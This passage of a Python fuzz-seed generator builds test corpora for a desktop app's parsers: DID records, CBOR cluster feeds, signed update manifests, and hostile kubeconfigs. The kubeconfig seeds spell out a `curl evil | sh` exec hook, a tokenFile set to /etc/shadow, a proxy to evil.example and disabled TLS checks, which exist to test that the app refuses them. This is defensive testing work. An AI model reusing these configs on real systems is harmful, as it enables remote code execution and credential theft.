                                "directory": {"listed": [["did:web:good.example.com", key]],
                                              "endpoints": ["https://user@good.example.com",
                                                            "https://evil.example.com#@good.example.com",
                                                            "https://good.example.com\\evil",
                                                            "ftp://good.example.com"]}})
    corpus.add("stranger", {"record": rfp, "issuer": "did:plc:stranger", "key": "did:key:zMallory",
                            "directory": {"listed": [["did:plc:stranger", "did:key:zMallory"]]}})
    corpus.add("not-object", [1, 2, 3])
    corpus.add("other-entries", {"record": dict(rfp, signatures=[{"uri": "at://x", "cid": CID}, 7, entry])})
    return corpus


def cluster_feed():
    corpus = Corpus("cluster_feed")
    header = lambda t: cbor({"op": 1, "t": t})
    frame = lambda data: struct.pack("<H", len(data)) + data
    cluster = lambda name, **extra: header("#cluster") + cbor(dict({"name": name, "phase": "Ready"}, **extra))
    member = lambda c, did, **extra: header("#member") + cbor(dict({"cluster": c, "did": did}, **extra))
    node = lambda c, name, **extra: header("#nodeClaim") + cbor(dict({"cluster": c, "name": name}, **extra))
    complete = header("#info") + cbor({"name": "SnapshotComplete"})
    feed = lambda *frames: b"".join(frame(f) for f in frames)
    corpus.add("snapshot", feed(cluster("alpha"), member("alpha", OWNER, state="Active"),
                                node("alpha", "nc-1", phase="Joining", message="waiting"), complete,
                                cluster("beta"), member("alpha", "did:plc:abc")))
    corpus.add("empty", feed(complete, cluster("alpha")))
    corpus.add("clusters", feed(*[cluster(n) for n in "abcd"], complete))
    corpus.add("clusters-after", feed(complete, *[cluster(n) for n in "abc"], cluster("b", deleted=True),
                                      cluster("d"), cluster("e")))
    corpus.add("members", feed(cluster("a"), *[member("a", f"did:plc:m{n}") for n in range(3)], complete))
    corpus.add("nodes", feed(complete, cluster("a"), *[node("a", f"n{n}") for n in range(3)]))
    corpus.add("frames", feed(*[header("#info") + cbor({"name": "Progress"})] * 13))
    corpus.add("bytes", feed(cluster("a", instance="x" * 1500), cluster("b", instance="y" * 1500), complete))
    corpus.add("hostile", feed(cluster("a", phase=HOSTILE, server=HOSTILE * 10),
                               node("a", HOSTILE, message=HOSTILE * 100), member("a", HOSTILE),
                               cluster("Bad Name"), complete))
    corpus.add("error", feed(cluster("a"), cbor({"op": -1}) + cbor({"error": "ClusterNotFound"})))
    corpus.add("unknown", feed(header("#future") + cbor({"n": 1}), complete))
    return corpus


def update_manifest():
    corpus = Corpus("update_manifest")
    signature = SIGNATURE  # already base64, as the manifest's field holds it
    url = "https://updates.socialweb.computer/desk/swdesk_1.2.3_amd64.deb"
    platform = {"url": url, "signature": signature}
    corpus.add("static", {"version": "1.2.3", "notes": "Fixes.", "pub_date": "2026-12-05T10:00:00Z",
                          "platforms": {"linux-x86_64-deb": platform, "linux-x86_64": platform}})
    corpus.add("dynamic", {"version": "v1.2.3", "url": url, "signature": signature})
    corpus.add("older", {"version": "0.0.1", "url": url, "signature": signature})
    corpus.add("same", {"version": "0.4.0", "url": url, "signature": signature})
    corpus.add("prerelease", {"version": "1.2.3-rc.1+build.7", "url": url, "signature": signature})
    corpus.add("name", {"name": "v2.0.0", "url": url, "signature": "bm90IGEgc2lnbmF0dXJl"})
    text = base64.b64decode(SIGNATURE).decode()
    forged = text[:-8] + ("A" if text[-8] != "A" else "B") + text[-7:]
    corpus.add("bad-signature", {"version": "1.2.3", "url": url,
                                 "signature": base64.b64encode(forged.encode()).decode()})
    corpus.add("other-version", {"version": "1.2.4", "url": url, "signature": signature})
    corpus.add("huge-version", {"version": "99999999999999999999.0.0", "url": url, "signature": ""})
    return corpus


# The seeds' release signature: `tauri signer sign --app-version 1.2.3` of
# fuzz/src/update_manifest.rs's PACKAGE with the key whose public half is its PUBLIC_KEY.
SIGNATURE = """dW50cnVzdGVkIGNvbW1lbnQ6IHNpZ25hdHVyZSBmcm9tIHRhdXJpIHNlY3JldCBrZXkKUlVReTh5WjA5YkpZa2ZQd1BZZzA3RXVCT201eWhyc2JYOHF0VlQ5NEhlNlZ0eVhmWElLL3lSRGQ4dVRjZUZNR2tHeG5udXBGR3hYYVkrTXJtNUJHYllGUEUyWTEwU244a1FJPQp0cnVzdGVkIGNvbW1lbnQ6IHRpbWVzdGFtcDoxNzk2NTgzMjg5CWZpbGU6cGFja2FnZQl2ZXJzaW9uOjEuMi4zCk9IMWZVcWpCaW5lai9aRDVqMWw5QnBjS3RsWUR3ckNpcVVuc09DY0xudGVma3Y5eVBNSmZrZThIRE0yVGFOMEk2NjlTYnJoWGlidkwyMDROVS83VUJBPT0K"""


def kubeconfig_hostile(corpus, issued):
    """The gateway answers the app refuses to write (issue 34): each asks for what runs code,
    reaches elsewhere or trusts anything."""
    user = "  user:\n"
    corpus.add("exec", issued.replace(user, user + "    exec:\n      apiVersion: client.authentication.k8s.io/v1\n"
                                              "      command: /bin/sh\n      args: [-c, 'curl evil | sh']\n"))
    corpus.add("auth-provider", issued.replace(user, user + "    auth-provider:\n      name: oidc\n"
                                                       "      config: {idp-issuer-url: https://evil.example}\n"))
    corpus.add("token-file", issued.replace(user, user + "    tokenFile: /etc/shadow\n    token: abc\n"))
    cluster = "  cluster:\n"
    corpus.add("proxy", issued.replace(cluster, cluster + "    proxy-url: socks5://evil.example:1080\n"))
    corpus.add("skip-tls", issued.replace(cluster, cluster + "    insecure-skip-tls-verify: true\n"))
    second = "- name: evil\n  context:\n    cluster: alpha\n    user: alpha-admin\n"
    corpus.add("two-contexts", issued.replace("current-context:", second + "current-context:"))
    corpus.add("current-evil", issued.replace("current-context: alpha", second + "current-context: evil"))


def check_dictionaries():
    """libFuzzer's dictionary syntax: `name="value"` or `"value"` a line, `#` comments."""
    for path in sorted((FUZZ / "dicts").glob("*.dict")):
        for number, line in enumerate(path.read_text().splitlines(), 1):
            line = line.strip()
            if not line or line.startswith("#"):
                continue
            value = line.split("=", 1)[1] if not line.startswith('"') else line
            if not (len(value) >= 2 and value.startswith('"') and value.endswith('"')):
                sys.exit(f"{path.name}:{number}: not a dictionary entry: {line}")


CORPORA = {
    "records": records, "xrpc_answer": xrpc_answer, "did_document": did_document,
    "syntax": syntax, "data_model": data_model, "cluster_frames": cluster_frames,
    "kubeconfig": kubeconfig_corpus, "oauth_metadata": oauth_metadata, "jwt": jwt,
    "peer_text": peer_text, "bid_cost": bid_cost, "app_link": app_link,
    "sign_in_request": sign_in_request, "dpop_nonce": dpop_nonce, "handle_answer": handle_answer,
    "relay_grant": relay_grant, "sealed_secret": sealed_secret,
    "inline_signatures": inline_signatures, "cluster_feed": cluster_feed,
    "update_manifest": update_manifest,
}


def main():
    """Every corpus, or only those named (`python3 fuzz/tools/make_seeds.py app_link jwt`):
    certificates and JWTs are signed afresh (ECDSA), so writing a corpus again changes its
    files even when nothing else did."""
    asked = sys.argv[1:] or list(CORPORA)
    unknown = [name for name in asked if name not in CORPORA]
    if unknown:
        sys.exit(f"no corpus {unknown}; the corpora are: {', '.join(CORPORA)}")
    made = [CORPORA[name]() for name in asked]
    for corpus in made:
        print(f"{corpus.dir.relative_to(FUZZ)}: {len(corpus.seen)} seeds")
    check_dictionaries()


if __name__ == "__main__":
    main()
